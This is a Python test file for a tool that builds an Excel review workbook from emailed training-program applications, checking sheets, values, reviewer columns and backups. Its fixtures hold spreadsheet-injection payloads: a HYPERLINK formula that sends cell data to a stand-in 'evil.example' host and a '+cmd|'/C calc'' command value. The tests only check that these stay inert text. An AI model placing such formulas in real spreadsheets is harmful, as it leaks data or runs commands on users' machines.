"""The review workbook, reopened with openpyxl: sheets, headers, values, types, safety, reviewer columns."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet

from core.fields import FormFields
from core.flags import Flag
from core.records import MessageRecord
from reports.projects import REVIEW_CHOICES
from reports.workbook import backups, write_workbook
from tests.test_reports_factory import (
    TZ,
    cell_link,
    make_attachment,
    make_form,
    make_message,
    make_run,
    save_formula_results,
)

SHEETS = [
    "汇总",
    "申报项目",
    "补正清单",
    "统计",
    "问题清单",
    "邮件日志",
    "附件",
    "技术信息",
]  # 通知: with notices


def _header(ws: Worksheet) -> dict[str, int]:
    return {str(c.value): c.column for c in ws[1] if c.value is not None}


def _column(ws: Worksheet, header: str) -> list[object]:
    col = _header(ws)[header]
    return [ws.cell(row=r, column=col).value for r in range(2, ws.max_row + 1)]


def _number_of(ws: Worksheet, form_id: str) -> int:
    """受理号 of a form, from 技术信息 (the one sheet that shows internal ids)."""
    tech = ws.parent["技术信息"]
    for number, fid in zip(_column(tech, "受理号"), _column(tech, "表单编号"), strict=True):
        if fid == form_id:
            return int(number)  # type: ignore[arg-type]
    raise AssertionError(f"{form_id} not in 技术信息")


def _row_of(ws: Worksheet, form_id: str) -> int:
    number = _number_of(ws, form_id)
    col = _header(ws)["受理号"]
    for r in range(2, ws.max_row + 1):
        if ws.cell(row=r, column=col).value == number:
            return r
    raise AssertionError(f"{form_id} not in {ws.title}")


def _messages(tmp_path: Path) -> list[MessageRecord]:
    (tmp_path / "data" / "att" / "ab").mkdir(parents=True)
    (tmp_path / "data" / "att" / "ab" / "abcd.docx").write_bytes(b"docx")
    ok = make_message(
        0,
        attachments=(
            make_attachment("申报表0.docx", archive_path="att/ab/abcd.docx"),
            make_attachment("申报表0.pdf"),
        ),
    )
    flagged_form = make_form(
        "INBOX/1/2",
        1,
        flags=(
            Flag("missing_field", "applicant.mobile"),
            Flag("missing_field", "承办单位信息·办公电话/手机"),
        ),
        project_name='=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    )
    late = make_message(1, forms=(flagged_form,), flags=(Flag("late", "2024-12-18 10:00"),))
    hostile = make_message(
        2,
        forms=(
            make_form("INBOX/1/3", 2, project_name="+cmd\x0b|'/C calc'\x00\ud800", purpose="长" * 40_000),
        ),
    )
    failed = make_message(
        3,
        forms=(),
        attachments=(),
        flags=(Flag("processing_failed", "boom"),),
        outcome="failed",
        subject="@SUM(1+1)",
    )
    return [ok, late, hostile, failed]


Book = tuple[Path, openpyxl.Workbook, list[MessageRecord]]


@pytest.fixture()
def book(tmp_path: Path) -> Book:
    msgs = _messages(tmp_path)
    path = tmp_path / "out" / "申报汇总.xlsx"
    write_workbook(path, msgs, make_run(new=frozenset({"INBOX/1/1"})), tz=TZ, data_dir=tmp_path / "data")
    return path, openpyxl.load_workbook(path), msgs


def test_notice_sheet_only_when_the_office_sends_notices(tmp_path: Path) -> None:
    """Without notices (intake notify not used) a 通知 sheet would say 未生成 on every row: it is left out."""
    from core.records import NoticeState

    msgs = _messages(tmp_path)
    path = tmp_path / "申报汇总.xlsx"
    notice = NoticeState(
        "receipt", "drafted", datetime(2024, 12, 12, 2, tzinfo=UTC), "a@example.com", "<n@x>"
    )
    write_workbook(path, msgs, make_run(), tz=TZ, data_dir=tmp_path / "data", notices={msgs[0].key: notice})
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == [*SHEETS[:-1], "通知", SHEETS[-1]]
    rows = list(wb["通知"].iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(msgs) and rows[0][5] == "草稿" and rows[1][5] == "未生成"


def test_sheets_and_project_headers(book: Book) -> None:
    _, wb, _ = book
    assert wb.sheetnames == SHEETS
    headers = list(_header(wb["申报项目"]))
    assert headers[:4] == ["序号", "受理号", "项目名称", "申报单位"]
    for label in (
        "问题",
        "状态",
        "办班天数",
        "收到时间",
        "发件人",
        "审核页",
        "Word原件",
        "PDF原件",
        "推荐级别",
        "审核意见",
        "审核人",
        "办班时间",
        "申报单位办公电话",
        "承办单位地址",
        "是否继续教育基地",
    ):
        assert label in headers
    # the form's order: 办班时间 before 办班地点 before 研修目的和作用 before 承办单位名称
    assert (
        headers.index("办班时间")
        < headers.index("办班地点")
        < headers.index("研修目的和作用")
        < headers.index("承办单位名称")
    )


def test_one_row_per_form_with_values_and_types(book: Book) -> None:
    _, wb, _msgs = book
    ws = wb["申报项目"]
    assert ws.max_row == 1 + 3  # three forms; the failed mail has none
    r = _row_of(ws, "F0000")
    h = _header(ws)
    assert ws.cell(row=r, column=h["项目名称"]).value == "数字经济与产业升级高级研修班0"
    assert ws.cell(row=r, column=h["办班天数"]).value == 5
    received = ws.cell(row=r, column=h["收到时间"]).value
    assert isinstance(received, datetime) and received.tzinfo is None
    assert received == datetime(2024, 12, 12, 9, 30)  # Beijing wall clock of 01:30 UTC
    assert isinstance(ws.cell(row=r, column=h["办班开始日期"]).value, datetime)
    phone = ws.cell(row=r, column=h["申报单位办公电话"])
    assert phone.value == "0717-6221234" and phone.data_type == "s"
    assert ws.cell(row=r, column=h["状态"]).value == "材料齐全"
    assert ws.cell(row=r, column=h["申报项目类别"]).value == "自筹经费项目"
    assert ws.cell(row=r, column=h["PDF公章"]).value == "未检查"
    assert ws.cell(row=r, column=h["序号"]).value == 1 and ws.cell(row=r, column=h["受理号"]).value == 1


def test_flags_status_and_highlights(book: Book) -> None:
    _, wb, _ = book
    ws = wb["申报项目"]
    h = _header(ws)
    r = _row_of(ws, "F0001")
    problems = ws.cell(row=r, column=h["问题"]).value
    assert "逾期提交" in problems and "未填写：申报单位手机" in problems
    assert ws.cell(row=r, column=h["状态"]).value == "逾期"
    flagged = ws.cell(row=r, column=h["申报单位手机"]).fill.fgColor.rgb
    plain = ws.cell(row=_row_of(ws, "F0000"), column=h["申报单位手机"]).fill.fgColor.rgb
    assert flagged != plain
    for label in ("承办单位办公电话", "承办单位手机"):  # the rules' label form names two columns
        assert ws.cell(row=r, column=h[label]).fill.fgColor.rgb == flagged
    assert ws.cell(row=r, column=h["申报单位"]).fill.fgColor.rgb != flagged
    late_fill = ws.cell(row=r, column=h["培训对象"]).fill.fgColor.rgb
    assert late_fill != ws.cell(row=_row_of(ws, "F0000"), column=h["培训对象"]).fill.fgColor.rgb


_OWN_LINK = r'=HYPERLINK\("(原件|审核页)/[^"]+","(打开|查看)"\)'


def _formulas(wb: openpyxl.Workbook) -> list[tuple[str, str]]:
    return [
        (ws.title, str(c.value))
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def test_formula_like_values_stay_text(book: Book) -> None:
    _, wb, _ = book
    ws = wb["申报项目"]
    cell = ws.cell(row=_row_of(ws, "F0001"), column=_header(ws)["项目名称"])
    assert cell.value == '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    assert cell.data_type == "s"
    log = wb["邮件日志"]
    assert "@SUM(1+1)" in _column(log, "主题")
    # the only formulas are intake's own: counts on 汇总, links to the files it made on 申报项目
    formulas = _formulas(wb)
    assert formulas and all(
        (t == "汇总" and f.startswith("=COUNTIF")) or (t == "申报项目" and re.fullmatch(_OWN_LINK, f))
        for t, f in formulas
    )


def test_illegal_characters_removed_and_long_text_capped(book: Book) -> None:
    _, wb, _ = book
    ws = wb["申报项目"]
    r = _row_of(ws, "F0002")
    h = _header(ws)
    assert ws.cell(row=r, column=h["项目名称"]).value == "+cmd |'/C calc'"  # its line break a space
    assert len(ws.cell(row=r, column=h["研修目的和作用"]).value) <= 32_000


def test_every_mail_in_log_including_failed(book: Book) -> None:
    _, wb, msgs = book
    log = wb["邮件日志"]
    assert _column(log, "序号") == [1, 2, 3, 4]
    assert _column(log, "主题") == [m.subject for m in msgs]
    assert _column(log, "处理结果")[3] == "处理失败"
    assert isinstance(_column(log, "收到时间")[0], datetime)
    assert list(dict.fromkeys(_column(wb["技术信息"], "邮件编号"))) == [m.key for m in msgs]
    flags = wb["问题清单"]
    assert "处理失败" in _column(flags, "问题") and "缺填项" in _column(flags, "问题")


def test_originals_beside_the_workbook_under_readable_names(book: Book) -> None:
    path, wb, _ = book
    projects = wb["申报项目"]
    ph = _header(projects)
    row = _row_of(projects, "F0000")
    target = cell_link(projects.cell(row=row, column=ph["Word原件"]))
    assert target == "原件/宜昌市第0人民医院/数字经济与产业升级高级研修班0/申报表0.docx"
    assert (path.parent / target).read_bytes() == b"docx"
    assert cell_link(projects.cell(row=row, column=ph["PDF原件"])) is None  # no archived copy: no link
    page = cell_link(projects.cell(row=row, column=ph["审核页"]))
    assert page == "审核页/第0001号.html" and (path.parent / page).is_file()


def test_attachments_sheet_lists_what_is_not_a_form(tmp_path: Path) -> None:
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "x.jpg").write_bytes(b"j" * 3000)
    extra = replace(
        make_attachment(
            "照片.jpg", status="ignored", archive_path="x.jpg", detail="不是申报表格式（Word/PDF）"
        ),
        kind="other",
        size=3000,
    )
    m = make_message(0)
    m = replace(
        m,
        attachments=(
            *m.attachments,
            extra,
            make_attachment("坏.docx", status="unreadable", detail="文件已损坏"),
        ),
    )
    path = tmp_path / "out" / "w.xlsx"
    write_workbook(path, [m], make_run(), tz=TZ, data_dir=tmp_path / "data")
    ws = openpyxl.load_workbook(path)["附件"]
    h = _header(ws)
    assert _column(ws, "文件名") == ["照片.jpg", "坏.docx"]  # the form's Word and PDF are on its row
    assert (
        ws.cell(row=2, column=h["文件名"]).hyperlink.target == "原件/宜昌市第0人民医院/其他附件/照片.jpg.bin"
    )  # kind unknown: .bin
    assert (path.parent / "原件/宜昌市第0人民医院/其他附件/照片.jpg.bin").read_bytes() == b"j" * 3000
    assert _column(ws, "大小") == ["2.9 KB", "12.1 KB"] and _column(ws, "类型") == ["其他", "Word 文档"]
    assert _column(ws, "状态") == ["已忽略", "无法读取"] and _column(ws, "序号") == [1, 2]


def test_dropdown_on_recommendation_column(book: Book) -> None:
    _, wb, _ = book
    ws = wb["申报项目"]
    letter = openpyxl.utils.get_column_letter(_header(ws)["推荐级别"])
    dvs = ws.data_validations.dataValidation
    assert len(dvs) == 1 and dvs[0].type == "list"
    assert all(choice in dvs[0].formula1 for choice in REVIEW_CHOICES)
    assert f"{letter}2" in str(dvs[0].sqref)


def test_summary_links_to_sheets_and_choice_colours(book: Book) -> None:
    _, wb, _ = book
    links = [c.hyperlink for row in wb["汇总"].iter_rows() for c in row if c.hyperlink]
    assert "'申报项目'!A1" in [h.location for h in links] and all(not h.target for h in links)
    rules = wb["申报项目"].conditional_formatting
    formulas = {f for cf in rules for rule in cf.rules for f in rule.formula}
    assert {f'"{c}"' for c in REVIEW_CHOICES} <= formulas
    ws = wb["申报项目"]
    assert "请勿修改" in ws.cell(row=1, column=_header(ws)["受理号"]).comment.text


def test_layout_frozen_filter_print(book: Book) -> None:
    _, wb, _ = book
    ws = wb["申报项目"]
    assert ws.freeze_panes == "D2"
    assert ws.auto_filter.ref.startswith("A1:")
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert ws.print_title_rows == "$1:$1"
    assert ws.print_area == "'申报项目'!$A$1:$K$4"  # the key columns: 序号 … 审核人
    assert "&P" in ws.oddFooter.center.text and "申报项目" in ws.oddHeader.center.text
    assert "2024年12月22日" in ws.oddHeader.right.text
    # wide characters count double: 项目名称 takes its cap (26) although the text is 15 characters long
    assert ws.column_dimensions["C"].width == 26 and ws.column_dimensions["A"].width < 10


def _pairs(ws: Worksheet, col: int) -> dict[object, object]:
    return {
        ws.cell(row=r, column=col).value: ws.cell(row=r, column=col + 1).value
        for r in range(1, ws.max_row + 1)
    }


def test_summary_counts(book: Book) -> None:
    _, wb, _ = book
    ws = wb["汇总"]
    mails = _pairs(ws, 4)
    assert mails["邮件总数"] == 4 and mails["其中逾期邮件"] == 1 and mails["处理失败邮件"] == 1
    counts = _pairs(ws, 1)
    status = openpyxl.utils.get_column_letter(_header(wb["申报项目"])["状态"])
    assert counts["有效申报表"] == f"=COUNTIF('申报项目'!${status}$2:${status}$4,\"<>已被替代\")"
    assert counts["逾期"] == f"=COUNTIF('申报项目'!${status}$2:${status}$4,\"逾期\")"
    assert str(_pairs(ws, 4)["本次新增邮件"]).startswith("=COUNTIF('邮件日志'!$I$2:$I$5")
    stats = wb["统计"]
    regions = {r[1]: r[6] for r in stats.iter_rows(values_only=True) if r and len(r) > 6}
    assert regions.get("宜昌市") == 3 and regions.get("合计") == 3


def _review(path: Path, form_id: str, level: str, opinion: str, who: str) -> None:
    """Simulate a reviewer editing the workbook (openpyxl, as Excel would save it)."""
    wb = openpyxl.load_workbook(path)
    ws = wb["申报项目"]
    h = _header(ws)
    r = _row_of(ws, form_id)
    ws.cell(row=r, column=h["推荐级别"]).value = level
    ws.cell(row=r, column=h["审核意见"]).value = opinion
    ws.cell(row=r, column=h["审核人"]).value = who
    wb.save(path)


def test_reviewer_columns_survive_two_regenerations(tmp_path: Path) -> None:
    msgs = _messages(tmp_path)
    path = tmp_path / "申报汇总.xlsx"
    run = make_run()
    write_workbook(path, msgs, run, tz=TZ, data_dir=tmp_path / "data")
    _review(path, "F0001", "推荐省级", "材料基本齐全，补手机号", "张三")
    _review(path, "F0002", "不推荐", "=不是公式", "李四")
    save_formula_results(path, {"不是公式": "#NAME?"})  # the error Excel shows for it, saved with it
    reordered = [msgs[2], msgs[0], msgs[3], msgs[1]]  # row order changes must not matter
    write_workbook(path, reordered, run, tz=TZ, data_dir=tmp_path / "data")
    write_workbook(path, msgs, run, tz=TZ, data_dir=tmp_path / "data")
    ws = openpyxl.load_workbook(path)["申报项目"]
    h = _header(ws)
    r = _row_of(ws, "F0001")
    assert [ws.cell(row=r, column=h[x]).value for x in ("推荐级别", "审核意见", "审核人")] == [
        "推荐省级",
        "材料基本齐全，补手机号",
        "张三",
    ]
    r2 = _row_of(ws, "F0002")
    assert ws.cell(row=r2, column=h["审核意见"]).value == "=不是公式"
    assert ws.cell(row=r2, column=h["审核意见"]).data_type == "s"
    assert ws.cell(row=_row_of(ws, "F0000"), column=h["推荐级别"]).value is None
    assert len(backups(path)) == 2


def test_removed_form_keeps_review_on_removed_sheet_and_comes_back(tmp_path: Path) -> None:
    msgs = _messages(tmp_path)
    path = tmp_path / "申报汇总.xlsx"
    run = make_run()
    write_workbook(path, msgs, run, tz=TZ, data_dir=tmp_path / "data")
    _review(path, "F0001", "推荐国家级", "优秀", "王五")
    without = [m for m in msgs if m.key != "INBOX/1/2"]
    write_workbook(path, without, run, tz=TZ, data_dir=tmp_path / "data")
    write_workbook(path, without, run, tz=TZ, data_dir=tmp_path / "data")  # still there after another run
    wb = openpyxl.load_workbook(path)
    assert "已移除" in wb.sheetnames
    removed = wb["已移除"]
    r = _row_of(removed, "F0001")
    h = _header(removed)
    assert removed.cell(row=r, column=h["审核意见"]).value == "优秀"
    assert removed.cell(row=r, column=h["项目名称"]).value.startswith("=HYPERLINK")
    write_workbook(path, msgs, run, tz=TZ, data_dir=tmp_path / "data")  # the form is back
    wb = openpyxl.load_workbook(path)
    assert "已移除" not in wb.sheetnames
    ws = wb["申报项目"]
    assert ws.cell(row=_row_of(ws, "F0001"), column=_header(ws)["推荐级别"]).value == "推荐国家级"


def test_review_in_a_row_without_form_id_is_kept_on_removed_sheet(tmp_path: Path) -> None:
    msgs = _messages(tmp_path)
    path = tmp_path / "申报汇总.xlsx"
    write_workbook(path, msgs, make_run(), tz=TZ, data_dir=tmp_path / "data")
    _review(path, "F0000", "推荐国家级", "很好", "赵六")
    wb = openpyxl.load_workbook(path)
    ws = wb["申报项目"]
    ws.delete_cols(_header(ws)["受理号"])  # a reviewer tidying up columns
    wb.save(path)
    for _ in range(2):
        write_workbook(path, msgs, make_run(), tz=TZ, data_dir=tmp_path / "data")
    removed = openpyxl.load_workbook(path)["已移除"]
    opinions = _column(removed, "审核意见")
    assert opinions.count("很好") == 1
    ids = _column(removed, "记录")
    assert ids[opinions.index("很好")] == "（无受理号）数字经济与产业升级高级研修班0"


def test_reviewer_saving_during_rebuild_is_not_overwritten(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import reports.workbook as wbmod

    msgs = _messages(tmp_path)
    path = tmp_path / "申报汇总.xlsx"
    write_workbook(path, msgs, make_run(), tz=TZ, data_dir=tmp_path / "data")
    real_build = wbmod.build_workbook
    calls = []

    def build_while_reviewer_saves(*args, **kwargs):  # type: ignore[no-untyped-def]
        if not calls:  # first build: the reviewer saves their note in the meantime
            _review(path, "F0000", "待定", "刚写的意见", "钱七")
        calls.append(1)
        return real_build(*args, **kwargs)

    monkeypatch.setattr(wbmod, "build_workbook", build_while_reviewer_saves)
    write_workbook(path, msgs, make_run(), tz=TZ, data_dir=tmp_path / "data")
    assert len(calls) == 2
    ws = openpyxl.load_workbook(path)["申报项目"]
    assert ws.cell(row=_row_of(ws, "F0000"), column=_header(ws)["审核意见"]).value == "刚写的意见"


def test_unreadable_old_workbook_is_set_aside_not_lost(tmp_path: Path) -> None:
    path = tmp_path / "申报汇总.xlsx"
    path.write_bytes(b"not a zip")
    write_workbook(path, _messages(tmp_path), make_run(), tz=TZ, data_dir=tmp_path / "data")
    kept = list(tmp_path.glob("申报汇总.unreadable-*.xlsx"))
    assert len(kept) == 1 and kept[0].read_bytes() == b"not a zip"
    assert openpyxl.load_workbook(path).sheetnames[0] == "汇总"


def test_empty_store_and_no_leftover_temp_files(tmp_path: Path) -> None:
    path = tmp_path / "申报汇总.xlsx"
    write_workbook(path, [], make_run(), tz=TZ, data_dir=tmp_path)
    write_workbook(path, [], make_run(), tz=TZ, data_dir=tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["备份", "申报汇总.xlsx"]
    assert [p.parent.name for p in backups(path)] == ["备份"]
    assert openpyxl.load_workbook(path)["申报项目"].max_row == 1


def test_superseded_form_shows_status(tmp_path: Path) -> None:
    old = make_message(
        0, forms=(make_form("INBOX/1/1", 0, superseded_by="F0001", flags=(Flag("superseded", "见 F0001"),)),)
    )
    new = make_message(1)
    path = tmp_path / "w.xlsx"
    write_workbook(path, [old, replace(new)], make_run(), tz=TZ, data_dir=tmp_path)
    ws = openpyxl.load_workbook(path)["申报项目"]
    h = _header(ws)
    assert ws.cell(row=_row_of(ws, "F0000"), column=h["状态"]).value == "已被替代"
    assert ws.cell(row=_row_of(ws, "F0000"), column=h["替代情况"]).value == "已被第 2 号替代"


_junk_text = st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x10FFFF), max_size=40)
_junk_value = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    _junk_text,
    st.lists(_junk_text, max_size=2),
    st.dictionaries(_junk_text, _junk_text, max_size=2),
)


_KEYS = [
    "project_name",
    "declared_org",
    "training_start",
    "training_end",
    "funding_type",
    "scope",
    "applicant",
    "organizer",
    "purpose",
    "declared_date",
]


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    fields=st.dictionaries(st.sampled_from(_KEYS), _junk_value, max_size=8),
    subject=_junk_text,
    sender=_junk_text,
    filename=_junk_text,
    detail=_junk_text,
)
def test_any_junk_in_records_still_saves(
    tmp_path: Path, fields: dict, subject: str, sender: str, filename: str, detail: str
) -> None:
    flags = (Flag("missing_field", detail), Flag("no_such_code", detail))
    stored = FormFields.from_json(fields)  # what the store reads back from junk it was given
    form = replace(make_form("INBOX/1/1", 0, flags=flags), fields=stored, sources=(filename,))
    msg = replace(
        make_message(0, forms=(form,)),
        subject=subject,
        sender=sender,
        attachments=(make_attachment(filename, archive_path=detail or None),),
    )
    path = tmp_path / "junk.xlsx"
    write_workbook(path, [msg], make_run(), tz=TZ, data_dir=tmp_path)
    wb = openpyxl.load_workbook(path)
    assert wb["申报项目"].max_row == 2
    assert all(t == "汇总" or re.fullmatch(_OWN_LINK, f) for t, f in _formulas(wb))


def test_streamed_rows_past_the_width_sample_from_an_iterator(tmp_path: Path) -> None:
    from reports.stream import SAMPLE_ROWS

    n = SAMPLE_ROWS + 5
    msgs = [make_message(i) for i in range(n)]
    path = tmp_path / "w.xlsx"
    write_workbook(path, iter(msgs), make_run(), tz=TZ, data_dir=tmp_path)  # a one-shot iterator
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames[0] == "汇总" and wb.active.title == "汇总"
    ws = wb["申报项目"]
    assert ws.max_row == n + 1
    assert _column(ws, "受理号")[-1] == n and _column(wb["技术信息"], "表单编号")[-1] == f"F{n - 1:04d}"
    # every row, the last one too, gets a height that fits its wrapped text (3 lines of 研修目的和作用)
    assert ws.row_dimensions[n + 1].height is not None and ws.row_dimensions[n + 1].height > 30
    assert ws.auto_filter.ref.endswith(str(n + 1))
    assert str(ws.data_validations.dataValidation[0].sqref).endswith(str(n + 1))


def test_every_sheet_prints_fitted_to_page_width(book: Book) -> None:
    # write-only sheets write their properties with the first row: fit-to-page must be set before it
    _, wb, _ = book
    for ws in wb.worksheets:
        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert ws.page_setup.fitToWidth == 1 and int(ws.page_setup.paperSize) == 9  # A4
        assert ws.page_setup.orientation == ("portrait" if ws.title == "统计" else "landscape"), ws.title


class _Reiterable:
    """Like the store's view (intake.store.RecordView): a fresh pass on every iter(), no len, no indexing."""

    def __init__(self, items: list[MessageRecord]) -> None:
        self._items = items
        self.passes = 0

    def __iter__(self):
        self.passes += 1
        yield from list(self._items)


def _contents(path: Path) -> list[tuple[str, list[tuple[object, ...]], str | None]]:
    wb = openpyxl.load_workbook(path)
    return [
        (
            ws.title,
            [tuple((c.value, c.fill.fgColor.rgb, cell_link(c)) for c in row) for row in ws.iter_rows()],
            ws.auto_filter.ref,
        )
        for ws in wb.worksheets
    ]


def test_streamed_reiterable_builds_the_workbook_of_the_list(tmp_path: Path) -> None:
    msgs = _messages(tmp_path)
    superseded = replace(
        msgs[0],
        key="INBOX/1/9",
        uid=9,
        message_id="<9@x>",
        forms=(
            replace(
                msgs[0].forms[0],
                form_id="f-old",
                superseded_by=msgs[0].forms[0].form_id,
                flags=(Flag("superseded", "较新"),),
            ),
        ),
    )
    msgs = [*msgs, superseded]
    run = make_run(
        new=frozenset({msgs[0].key}), changed=frozenset({msgs[1].key}), failed=frozenset({msgs[3].key})
    )
    ordered = sorted(msgs, key=lambda m: (m.received_at.timestamp(), m.key))
    a, b, c = (
        tmp_path / "a" / "申报汇总.xlsx",
        tmp_path / "b" / "申报汇总.xlsx",
        tmp_path / "c" / "申报汇总.xlsx",
    )
    write_workbook(a, list(reversed(msgs)), run, tz=TZ, data_dir=tmp_path / "data")
    view = _Reiterable(ordered)
    write_workbook(b, view, run, tz=TZ, data_dir=tmp_path / "data")
    write_workbook(
        c, _Reiterable(list(reversed(msgs))), run, tz=TZ, data_dir=tmp_path / "data"
    )  # out of order
    assert _contents(b) == _contents(a) == _contents(c)
    assert view.passes > 2  # several passes over the view, not one pass into a list


def _count_from_a_list(messages: list, run: object) -> object:
    """The numbers as first written, over a whole list: the oracle for the one-pass reports.counts.count."""
    from collections import Counter

    from reports.counts import Counts
    from reports.rows import form_rows
    from reports.table import (
        flag_title,
        form_flags_with_message,
        funding_label,
        guess_region,
        guess_unit_type,
        is_complete,
        is_late,
    )

    def ranked(counter: Counter) -> tuple:
        return tuple(sorted(counter.items(), key=lambda kv: (-kv[1], kv[0])))

    def text_or(value: object, empty: str) -> str:
        return str(value).strip() if isinstance(value, str) and value.strip() else empty

    rows = form_rows(messages)
    current = [r for r in rows if not r.form.superseded_by]
    flags: Counter = Counter()
    for m in messages:
        flags.update(flag_title(f) for f in m.flags)
        for form in m.forms:
            flags.update(flag_title(f) for f in form.flags if f not in m.flags)
    complete = sum(is_complete(form_flags_with_message(r.message, r.form)) for r in current)
    late = sum(is_late(r.message, r.form) for r in current)
    return Counts(
        mails=len(messages),
        mails_late=sum(is_late(m) for m in messages),
        mails_failed=sum(m.outcome == "failed" or m.key in run.failed_keys for m in messages),
        mails_new=sum(m.key in run.new_keys for m in messages),
        mails_changed=sum(m.key in run.changed_keys and m.key not in run.new_keys for m in messages),
        forms=len(rows),
        forms_current=len(current),
        forms_on_time=len(current) - late,
        forms_late=late,
        forms_complete=complete,
        forms_incomplete=len(current) - complete,
        forms_new=sum(r.message.key in run.new_keys for r in rows),
        forms_changed=sum(
            r.message.key in run.changed_keys and r.message.key not in run.new_keys for r in rows
        ),
        by_flag=ranked(flags),
        by_industry=ranked(
            Counter(text_or(r.form.fields.to_json().get("industry_field"), "未填写") for r in current)
        ),
        by_funding=ranked(Counter(funding_label(r.form.fields.funding_type, r.form.flags) for r in current)),
        by_region=ranked(Counter(guess_region(r.form.fields) for r in current)),
        by_unit_type=ranked(Counter(guess_unit_type(r.form.fields) for r in current)),
    )


def test_one_pass_count_matches_the_list_based_numbers(tmp_path: Path) -> None:
    from reports.counts import count
    from reports.rows import receipt_ordered

    msgs = _messages(tmp_path)
    dup = replace(msgs[1], key="INBOX/1/8", uid=8)  # the same form_id again: counted once as a form
    msgs = [*msgs, dup]
    run = make_run(new=frozenset({msgs[0].key, dup.key}), failed=frozenset({msgs[2].key}))
    assert count(receipt_ordered(msgs), run) == _count_from_a_list(msgs, run)
    assert count(receipt_ordered(msgs), run).forms == len({f.form_id for m in msgs for f in m.forms})
